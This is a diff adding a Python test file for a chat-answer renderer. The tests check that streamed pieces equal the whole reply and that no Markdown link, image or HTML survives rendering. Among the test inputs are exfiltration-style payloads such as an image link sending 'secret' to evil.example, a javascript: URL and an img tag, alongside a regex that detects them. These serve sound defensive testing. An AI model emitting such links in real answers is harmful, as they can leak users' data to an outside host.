@@ -1,0 +1,121 @@
+"""Answers as chat text: streamed pieces are the whole reply, and nothing becomes a link."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import replace
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from siloquy.generator.openai_text import Writing, plain, whole, without_closing
+from siloquy.types import Answer, Cited, Conflict, DocumentId, Sentence
+from tests.generator.served import ABSTAINED, ANSWER, SENTENCES
+
+# What a renderer of GitHub's Markdown makes a link, an image or HTML of.
+ACTIVE = re.compile(
+    r"!\[|\]\(|\]:|<[A-Za-z/!?]|[A-Za-z]://|\b(?:www\.|mailto:|data:|javascript:)\S", re.IGNORECASE
+)
+
+
+def test_an_answer_has_its_marks_its_references_and_who_is_missing() -> None:
+    assert whole(ANSWER) == (
+        "Give 1 g. [1] Give 2 g. [2]\n"
+        "\n"
+        "References:\n"
+        "[1] Dosing 1. north, dosing-1.txt, characters 0-9.\n"
+        "[2] Dosing 2. north, dosing-2.txt, characters 0-9.\n"
+        "\n"
+        "Missing silos: south (timeout). What they hold is not in this answer."
+    )
+
+
+def test_an_abstention_says_so_and_who_is_missing() -> None:
+    assert whole(ABSTAINED) == (
+        "Not found in the 1 of 2 asked silos that answered.\n"
+        "\n"
+        "Missing silos: south (timeout). What they hold is not in this answer."
+    )
+
+
+def test_what_differs_is_flagged_or_must_be_known_is_said() -> None:
+    conflict = Conflict("dose", (Cited(1, 0, 9), Cited(3, 0, 9)), "1 g against 3 g.")
+    answer = replace(
+        ANSWER, missing=(), conflicts=(conflict,), flagged={"north": "odd"}, notes=("A note.",)
+    )
+    text = whole(answer)
+    assert "[3] Dosing 3." in text
+    assert text.endswith(
+        "To weigh (dose): 1 g against 3 g. [1][3]\n\nFlagged silos: north (odd).\n\nNote: A note."
+    )
+
+
+def pieces(answer: Answer, told: tuple[Sentence, ...]) -> str:
+    writing = Writing()
+    return "".join([*map(writing.sentence, told), writing.end(answer)])
+
+
+@pytest.mark.parametrize("answer", [ANSWER, ABSTAINED])
+def test_streamed_pieces_are_the_whole_text(answer: Answer) -> None:
+    assert pieces(answer, answer.sentences) == whole(answer)
+    assert pieces(answer, ()) == whole(answer)
+
+
+def test_text_that_was_shown_and_does_not_hold_is_taken_back_in_words() -> None:
+    text = pieces(ABSTAINED, SENTENCES)
+    assert text.startswith("Give 1 g. [1] Give 2 g. [2]\n\nThe text above does not hold.")
+    assert ABSTAINED.answer in text
+
+
+def test_an_earlier_answer_is_a_turn_without_what_follows_it() -> None:
+    assert without_closing(whole(ANSWER)) == ANSWER.answer
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/?q=secret)",
+        "[click](//evil.example)",
+        "![a][b]\n\n[b]: //evil.example/x.png",
+        "<img src=//evil.example>",
+        "<https://evil.example>",
+        "https://evil.example",
+        "www.evil.example",
+        "WWW.evil.example",
+        "javascript:alert(1)",
+        "mailto:a@evil.example",
+        "!\x00[x](y)",
+    ],
+)
+def test_no_link_and_no_image_stays_whole(text: str) -> None:
+    assert not ACTIVE.search(plain(text))
+    title = replace(ANSWER.sources[0], title=text, document=DocumentId(text))
+    sentence = replace(ANSWER.sentences[0], text=text)
+    answer = replace(
+        ANSWER,
+        sources=(title, *ANSWER.sources[1:]),
+        sentences=(sentence,),
+        answer=f"{text} [1]",
+        notes=(text,),
+        flagged={"north": text},
+    )
+    assert not ACTIVE.search(whole(answer))
+    assert not ACTIVE.search(pieces(answer, (sentence,)))
+
+
+@given(st.text(st.sampled_from("![]()<>:/wW.ahtps\n "), max_size=60))
+def test_whatever_is_written_no_link_stays_whole(text: str) -> None:
+    assert not ACTIVE.search(plain(text))
+
+
+@given(st.lists(st.text(st.sampled_from("![]()<>:/wW.ahtps "), max_size=20), max_size=5))
+def test_pieces_add_up_whatever_the_sentences_are(texts: list[str]) -> None:
+    told = tuple(Sentence(text, (1,), 1.0) for text in texts)
+    answer = replace(ANSWER, sentences=told, answer=" ".join(f"{text} [1]" for text in texts))
+    assert pieces(answer, told) == whole(answer)
+
+
+def test_clinical_text_stays_as_it_is() -> None:
+    text = "If K+ < 3.5 mmol/l [1]: give 1:1000, see (2) and e.g. 5-10 mg/kg. Ratio 3:1."
+    assert plain(text) in (text, text.replace("]: ", "] : "))
